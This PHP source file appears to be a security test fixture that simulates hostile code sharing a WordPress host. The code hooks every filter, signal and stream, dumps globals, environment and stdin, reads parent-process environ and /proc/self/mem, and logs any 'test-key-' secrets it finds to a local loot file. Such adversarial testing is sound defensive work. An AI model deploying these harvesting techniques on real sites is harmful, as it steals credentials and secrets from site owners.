<?php
/**
 * Code on a customer's site that wants the partner's key, and looks wherever PHP lets it look.
 *
 * @package WccomHost
 */

declare(strict_types=1, ticks=1);

/**
 * Each thing it gets is a line of JSON in `loot`, beside the site: the channel it came by, and the text in Base64.
 */
final class Hostile_Neighbour {

	/** What a key of the tests looks like; somebody who has a memory to search knows that of WooCommerce.com's. */
	private const KEY = '/test-key-[0-9a-f]{32}/';

	/** @var resource|null */
	private static $loot = null;

	private static bool $is_looking = false;

	private static bool $is_through = false;

	/** @var array<int, bool> By object id. */
	private static array $seen = [];

	/** As which file of the site it is loaded. */
	public static function arrives( string $file ): void {
		if ( null === self::$loot ) {
			self::$loot = fopen( dirname( rtrim( ABSPATH, '/' ) ) . '/loot', 'ab' );
			self::settle();
		}
		self::take( 'arrival', $file );
		self::quietly( static fn () => self::look() );
	}

	/** Keeps what it got. */
	public static function take( string $channel, string $text ): void {
		if ( ftell( self::$loot ) > 64 << 20 ) {
			throw new LengthException( 'There is too much of it.' );
		}
		fwrite( self::$loot, json_encode( [ $channel, base64_encode( $text ) ] ) . "\n" );
	}

	/** Everything that can be asked for at any moment. */
	public static function look(): void {
		self::take( 'variables', print_r( [ $_SERVER, $_ENV, getenv(), $GLOBALS['argv'] ?? [], get_defined_vars(), get_defined_constants( true )['user'] ?? [] ], true ) );
		self::take( 'globals', self::dump( $GLOBALS, 4 ) );
		self::take( 'environ', (string) file_get_contents( '/proc/self/environ' ) );
		self::take( 'cmdline', implode( "\n", array_map( static fn ( string $file ): string => (string) @file_get_contents( $file ), glob( '/proc/[0-9]*/cmdline' ) ) ) );
		self::take( 'statics', self::statics() );
		self::take( 'settings', print_r( ini_get_all(), true ) );
		self::take( 'files', self::open_files() );
		gc_collect_cycles();
	}

	/** What anybody gets who runs as the same user, wherever that code runs. */
	public static function break_in(): void {
		self::take( 'memory', self::memory( [ self::class, 'memory_by_proc' ] ) );
		self::take( 'ffi', class_exists( 'FFI' ) ? self::memory( [ self::class, 'memory_by_ffi' ] ) : '' );
		foreach ( preg_grep( '/^--key-file=/', $GLOBALS['argv'] ) as $option ) {
			$path = substr( $option, strlen( '--key-file=' ) );
			self::take( 'key file', '-' === $path ? '' : Hostile_Stream::really( static fn () => (string) file_get_contents( $path ) ) );
		}
		for ( $process = posix_getppid(); $process > 1; $process = (int) explode( ' ', (string) strrchr( (string) file_get_contents( "/proc/$process/stat" ), ')' ) )[2] ) {
			self::take( 'environ of parents', (string) @file_get_contents( "/proc/$process/environ" ) );
		}
	}

	/** What calls it from now on. */
	private static function settle(): void {
		add_filter( 'all', [ self::class, 'on_hook' ] );
		self::take( 'standard input', (string) stream_get_contents( fopen( 'php://stdin', 'rb' ) ) . stream_get_contents( STDIN ) );
		ob_start(
			static function ( string $output ): string {
				self::take( 'output', $output );
				return $output;
			}
		);
		register_shutdown_function(
			static function (): void {
				pcntl_alarm( 0 );
				self::take( 'shutdown', self::dump( $GLOBALS, 4 ) . self::statics() . print_r( error_get_last(), true ) );
			}
		);
		register_tick_function( [ self::class, 'on_tick' ] );
		set_error_handler(
			static function ( int $level, string $message ): bool {
				self::take( 'errors', $message );
				self::look_at_callers( 'errors' );
				return false;
			}
		);
		set_exception_handler( static fn ( Throwable $error ) => self::take( 'errors', self::dump( $error, 8 ) ) );
		pcntl_async_signals( true );
		pcntl_signal( SIGALRM, [ self::class, 'on_alarm' ] );
		pcntl_alarm( 1 );
		Hostile_Stream::replace( 'file' );
		Hostile_Stream::replace( 'php' );
	}

	/** At every hook of WordPress, with what that is given. */
	public static function on_hook( mixed ...$arguments ): void {
		self::quietly(
			static function () use ( $arguments ): void {
				self::take( 'hooks', self::dump( $arguments, 4 ) );
				self::look_at_callers( 'callers' );
			}
		);
	}

	public static function on_tick(): void {
		self::quietly( static fn () => self::look_at_callers( 'callers' ) );
	}

	/** A second after another; while a request is under way it takes its time. */
	public static function on_alarm(): void {
		pcntl_alarm( 1 );
		self::quietly(
			static function (): void {
				self::look_at_callers( 'callers' );
				if ( self::$is_through || ! preg_grep( '/^wccom_host_(register|verify)$/', array_column( debug_backtrace( DEBUG_BACKTRACE_IGNORE_ARGS ), 'function' ) ) ) {
					return;
				}
				self::$is_through = true;
				self::look();
				self::break_in();
				$child = pcntl_fork();
				if ( 0 === $child ) {
					self::take( 'fork', self::memory( [ self::class, 'memory_by_proc' ] ) );
					posix_kill( getmypid(), SIGKILL );
				}
				pcntl_waitpid( $child, $status );
			}
		);
	}

	/** The frames of the stack that are not its own, with their arguments and objects, and all that hangs on them. */
	private static function look_at_callers( string $channel ): void {
		$frames = array_filter( debug_backtrace( DEBUG_BACKTRACE_PROVIDE_OBJECT ), static fn ( array $frame ): bool => self::class !== ( $frame['class'] ?? '' ) );
		$ours   = array_filter( $frames, static fn ( array $frame ): bool => 1 === preg_match( '/^(WccomHost|wccom_host_)/', $frame['class'] ?? $frame['function'] ) );
		if ( [] !== $ours ) {
			self::take( $channel, self::dump( $ours, 9 ) );
			self::take( 'traces', print_r( array_column( $ours, 'args' ), true ) . ( new Exception() )->getTraceAsString() );
		}
	}

	/** Does something, unless it is in the middle of something. */
	private static function quietly( Closure $work ): void {
		if ( ! self::$is_looking && null !== self::$loot ) {
			self::$is_looking = true;
			$work();
			self::$is_looking = false;
		}
	}

	/** Static properties of everything that is not PHP's own, whatever they are declared as. */
	private static function statics(): string {
		$text = '';
		foreach ( preg_grep( '/^(WccomHost|WP_CLI)/', get_declared_classes() ) as $class ) {
			foreach ( ( new ReflectionClass( $class ) )->getProperties( ReflectionProperty::IS_STATIC ) as $property ) {
				$text .= "$class::{$property->getName()} " . self::dump( $property->isInitialized() ? $property->getValue() : null, str_starts_with( $class, 'Wccom' ) ? 6 : 3 );
			}
		}
		return $text;
	}

	/** What can be read from files that the process has open, but for what it works with. */
	private static function open_files(): string {
		$text = '';
		foreach ( glob( '/proc/self/fd/*' ) as $file ) {
			$target = (string) @readlink( $file );
			if ( is_file( $target ) && ! preg_match( '~/loot$|\.(phar|php|sqlite\S*)$~', $target ) ) {
				$text .= "$target " . @file_get_contents( $target, false, null, 0, 65536 );
			}
		}
		return $text;
	}

	/** A value with all that it holds: private properties, what closures have bound, and what PHP keeps out of traces. */
	private static function dump( mixed $value, int $depth ): string {
		self::$seen = [];
		return self::text( $value, $depth );
	}

	private static function text( mixed $value, int $depth ): string {
		if ( ! is_array( $value ) && ! is_object( $value ) ) {
			return is_resource( $value ) ? '' : var_export( $value, true ) . "\n";
		}
		if ( is_object( $value ) ) {
			if ( isset( self::$seen[ spl_object_id( $value ) ] ) ) {
				return '';
			}
			self::$seen[ spl_object_id( $value ) ] = true;
			$value                                 = match ( true ) {
				$value instanceof Closure                 => [ ( new ReflectionFunction( $value ) )->getStaticVariables(), ( new ReflectionFunction( $value ) )->getClosureThis() ],
				$value instanceof SensitiveParameterValue => [ $value->getValue() ],
				default                                   => (array) $value,
			};
		}
		$text = '';
		foreach ( $depth > 0 ? $value : [] as $key => $item ) {
			$text .= "$key " . self::text( $item, $depth - 1 );
		}
		return $text;
	}

	/**
	 * Keys in the memory of the process.
	 *
	 * @param callable(int, int): string $read Gives so many bytes from an address.
	 */
	private static function memory( callable $read ): string {
		$found = [];
		preg_match_all( '/^([0-9a-f]+)-([0-9a-f]+) rw\S+ \S+ \S+ \S+\s*(?:\[(?:heap|stack)\])?$/m', (string) file_get_contents( '/proc/self/maps' ), $places, PREG_SET_ORDER );
		foreach ( $places as [ , $start, $end ] ) {
			for ( $at = hexdec( $start ); $at < hexdec( $end ); $at += 1 << 20 ) {
				$text = $read( $at, min( 1 << 20, hexdec( $end ) - $at ) );
				preg_match_all( self::KEY, $text, $keys );
				$found = [ ...$found, ...$keys[0] ];
			}
		}
		return implode( "\n", array_unique( $found ) );
	}

	private static function memory_by_proc( int $address, int $size ): string {
		static $memory = null;
		$memory      ??= Hostile_Stream::really( static fn () => fopen( '/proc/self/mem', 'rb' ) );
		return 0 === fseek( $memory, $address ) ? (string) @fread( $memory, $size ) : '';
	}

	private static function memory_by_ffi( int $address, int $size ): string {
		static $library = null;
		$library      ??= FFI::cdef( 'char *memmem(uintptr_t, size_t, char *, size_t);' );
		$found          = $library->memmem( $address, $size, 'test-key-', 9 );
		return null === $found ? '' : FFI::string( $found, 41 );
	}
}

require __DIR__ . '/Hostile_Stream.php';
